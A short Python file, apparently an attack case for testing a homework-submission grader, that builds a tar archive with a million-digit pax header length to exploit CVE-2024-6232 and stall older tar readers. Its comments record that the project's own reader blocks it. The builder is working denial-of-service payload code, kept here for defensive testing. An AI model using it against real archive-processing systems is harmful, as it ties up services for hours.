# attack: a pax record whose length is a million digits, for which old readers take hours (CVE-2024-6232)
# earns: 0
# stopped by: our own reader of tars: a length has eight digits at most
import tarfile
from pathlib import Path


def build(path: Path) -> None:
    content = b"1" * (1 << 20)
    member = tarfile.TarInfo("x")
    member.type, member.size = tarfile.XHDTYPE, len(content)
    header = member.tobuf(tarfile.USTAR_FORMAT)
    path.write_bytes(header + content + tarfile.TarInfo("hw3/gru.py").tobuf() + bytes(1024))
